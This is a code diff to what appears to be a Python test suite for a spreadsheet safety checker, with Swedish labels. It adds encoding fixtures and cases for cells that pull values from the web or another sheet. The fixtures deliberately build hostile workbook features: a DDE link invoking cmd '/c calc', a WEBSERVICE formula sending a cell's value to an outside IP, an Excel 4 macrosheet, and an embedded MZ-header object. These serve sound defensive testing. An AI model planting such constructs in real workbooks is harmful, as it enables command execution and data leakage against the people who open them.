@@ -172,11 +172,14 @@ def web_links(book: Book) -> None:
     )
 
 
-def utf_16(book: Book) -> None:
-    book.flush()
-    book.opened.clear()
-    name = book.where["Behov"]
-    book.parts[name] = book.text(name).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
+def encoded(declared: str, encoding: str):
+    def make(book: Book) -> None:
+        book.flush()
+        book.opened.clear()
+        for name in (book.where["Behov"], "xl/sharedStrings.xml", "xl/workbook.xml"):
+            book.parts[name] = book.text(name).replace('"UTF-8"', f'"{declared}"').encode(encoding, "xmlcharrefreplace")
+
+    return make
 
 
 def two_ends(book: Book) -> Files:
@@ -233,7 +236,8 @@ PREFLIGHT = (
     Odd("Boken har ett makroblad från Excel 4", part("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData/></xm:macrosheet>'), ("upplysning makron",)),
     Odd("Ett värde hämtas ur en annan bok", external_value, ("upplysning lank-till-annan-bok", "fråga varde-ur-annan-bok Roller!H6"), rows={"roles R-002": {"authority": "Hämtat ur annan.xlsx"}}, never=("C:/Chefen",)),
     Odd("Boken frågar ett annat program (DDE)", part("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), ("fråga dde",)),
-    Odd("En cell hämtar sitt värde från webben", lambda book: book.set("Roller!H6", Formula('_xlfn.WEBSERVICE("http://192.0.2.1/?"&A1)', "Från webben")), rows={"roles R-002": {"authority": "Från webben"}}),
+    Odd("En cell hämtar sitt värde från webben", lambda book: book.set("Roller!H6", Formula('_xlfn.WEBSERVICE("http://192.0.2.1/?"&A1)', "Från webben")), ("fråga varde-ur-annan-bok Roller!H6",), rows={"roles R-002": {"authority": "Från webben"}}),
+    Odd("En cell hämtar sitt värde ur ett annat kalkylark hos Google", lambda book: book.set("Roller!H6", Formula('IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://docs.google.com/x"",""A1"")"),"Hämtat")', "Hämtat")), ("fråga varde-ur-annan-bok Roller!H6",), rows={"roles R-002": {"authority": "Hämtat"}}),
     Odd("Boken har ett inbäddat objekt", part("xl/embeddings/oleObject1.bin", b"MZ\x90"), ("upplysning inbaddat",)),
     Odd("Boken är sparad som Strict Open XML", strict),
     Odd("Boken räknar dagar från 1904", from_1904),
@@ -248,7 +252,9 @@ PREFLIGHT = (
     Odd("En cell har en kommentar", comment("Ring om det här"), ("upplysning kommentarer Behov!C5",), never=("Ring om det här",)),
     Odd("En cell har en kommentarstråd", thread, ("upplysning kommentarer Behov!C6",), never=("Stämmer det?",)),
     Odd("En cell är en länk till webben", web_links, never=("192.0.2.1",)),
-    Odd("Ett blad är skrivet i en annan teckenkodning", utf_16, ("fel teckenkodning",), counted=False),
+    Odd("Boken är skriven i UTF-16", encoded("UTF-16", "utf-16")),
+    Odd("Boken är skriven i en äldre svensk teckenkodning", encoded("ISO-8859-1", "latin-1")),
+    Odd("Boken är skriven i en teckenkodning som ingen använder", encoded("UTF-7", "utf-7"), ("fel teckenkodning",), counted=False),
     Odd("Boken är hopsatt så att den kan läsas på två sätt", two_ends, ("upplysning inbaddat",)),
     Odd("Ett blad ligger två gånger i arkivet med olika svar", twice("xl/worksheets/sheet4.xml"), ("fel misstankt",), counted=False),
     Odd("Ett blad ligger två gånger i arkivet med samma innehåll", twice("docProps/app.xml")),
